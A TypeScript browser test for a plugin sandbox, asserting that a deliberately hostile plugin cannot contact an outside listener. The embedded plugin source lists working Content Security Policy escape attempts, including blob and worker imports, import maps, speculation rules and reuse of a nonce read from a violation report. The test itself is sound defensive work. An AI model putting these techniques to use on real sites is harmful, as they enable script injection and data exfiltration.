import type { Browser } from 'playwright'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startFrameServer, type FrameServer } from '../support/testFrameServer.ts'
import { listenForLeaks, type Ears } from '../support/testListeners.ts'
import { launchChromium } from '../support/chromium.ts'
import { triesToEscape } from '../support/hostilePlugins.ts'

/** Module loading has its own rules, by which a nonce travels from script to script. */
const triesImports = (http: string): string => `
import { definePlugin } from '@msdat/sdk'
import { useEffect, useState } from 'react'
const attempts = {
  dynamicImport: () => import([${JSON.stringify(http)}, '/dynamic-import?secret'].join('')),
  importFromBlob: () => import(blob('import(' + JSON.stringify(${JSON.stringify(http)} + '/import-from-blob') + ')')),
  staticImportFromBlob: () => import(blob('import ' + JSON.stringify(${JSON.stringify(http)} + '/static-import-from-blob'))),
  moduleWorkerStatic: () => work('import ' + JSON.stringify(${JSON.stringify(http)} + '/module-worker-static')),
  moduleWorkerDynamic: () => work('import(' + JSON.stringify(${JSON.stringify(http)} + '/module-worker-dynamic') + ')'),
  importScripts: () => work('importScripts(' + JSON.stringify(${JSON.stringify(http)} + '/import-scripts') + ')', 'classic'),
  modulePreload: () => add('link', { rel: 'modulepreload', href: ${JSON.stringify(http)} + '/modulepreload' }),
  moduleScript: () => add('script', { type: 'module', src: ${JSON.stringify(http)} + '/module-script' }),
  secondImportMap: () => add('script', { type: 'importmap' }, JSON.stringify({ imports: { leak: ${JSON.stringify(http)} + '/import-map' } })),
  speculation: () => add('script', { type: 'speculationrules' }, JSON.stringify({ prefetch: [{ urls: [${JSON.stringify(http)} + '/speculation'] }] })),
  // A report of what the policy refused quotes the policy, and its nonce with it.
  nonceOutOfAReport: async () => {
    const { originalPolicy } = await refusal()
    const nonce = /'nonce-([^']+)'/.exec(originalPolicy)[1]
    add('script', { nonce, src: ${JSON.stringify(http)} + '/script-with-nonce' })
    add('script', { nonce, type: 'module' }, 'import ' + JSON.stringify(${JSON.stringify(http)} + '/module-with-nonce'))
    add('script', { nonce }, 'import(' + JSON.stringify(${JSON.stringify(http)} + '/inline-with-nonce') + ')')
    add('script', { nonce, type: 'speculationrules' }, JSON.stringify({ prefetch: [{ urls: [${JSON.stringify(http)} + '/speculation-with-nonce'], eagerness: 'immediate' }] }))
  },
  selfFrame: () => add('iframe', { src: 'javascript:fetch(' + JSON.stringify(${JSON.stringify(http)} + '/javascript') + ')' }),
}
const blob = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))
const work = (code, type = 'module') => new Worker(blob(code), { type })
const add = (tag, set, text = '') => {
  const made = document.createElement(tag)
  Object.assign(made, set)
  made.textContent = text
  document.body.append(made)
}
const refusal = () => new Promise((resolve) => {
  document.addEventListener('securitypolicyviolation', resolve, { once: true })
  add('img', { src: 'https://refused.example/' })
})
function View() {
  const [tried, setTried] = useState('')
  useEffect(() => {
    for (const attempt of Object.values(attempts)) {
      try { Promise.resolve(attempt()).catch(() => undefined) } catch { /* The next one may get through. */ }
    }
    setTimeout(() => setTried('tried'), 1500)
  }, [])
  return <p id="said">{tried}</p>
}
definePlugin({ contributions: { panel: { view: View } } })`

let browser: Browser
let server: FrameServer
let ears: Ears

beforeAll(async () => {
  ears = await listenForLeaks()
  const plugins = {
    escapes: { source: triesToEscape(ears) },
    imports: { source: triesImports(ears.http) },
  }
  ;[browser, server] = await Promise.all([launchChromium(), startFrameServer(plugins)])
})
afterAll(async () => {
  await browser?.close()
  server?.close()
  ears?.close()
})

describe('a plugin that tries to reach the outside', () => {
  it.each(['escapes', 'imports'])('finds no way out (%s)', async (plugin) => {
    const page = await browser.newPage()
    await page.goto(`${server.origin}/?show=${plugin}`)
    const said = page.frameLocator('iframe').locator('#said')
    await expect.poll(() => said.textContent(), { timeout: 20_000 }).toMatch(/refused|tried/)
    await page.waitForTimeout(500)
    expect(ears.heard).toEqual([])
    expect(page.url()).toBe(`${server.origin}/?show=${plugin}`)
    expect(browser.contexts().flatMap((context) => context.pages())).toHaveLength(1)
    await page.close()
  })

  it('would be heard if it found one', async () => {
    await fetch(`${ears.http}/heard`)
    expect(ears.heard).toEqual(['http /heard'])
  })
})
